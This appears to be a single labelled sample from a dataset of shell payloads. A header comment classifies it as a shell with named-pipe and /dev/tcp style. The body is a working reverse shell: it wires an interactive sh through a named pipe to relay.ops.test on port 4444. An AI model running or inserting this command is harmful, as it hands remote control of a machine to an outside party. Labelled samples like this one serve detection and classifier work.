# class: shell; possible: low medium; style: named pipe, cat both ways over /dev/tcp
d=$(mktemp -d) && mkfifo "$d/p" || exit 1
exec 7<>/dev/tcp/relay.ops.test/4444
sh -i <"$d/p" >&7 2>&1 &
cat <&7 >"$d/p"
wait
rm -rf "$d"
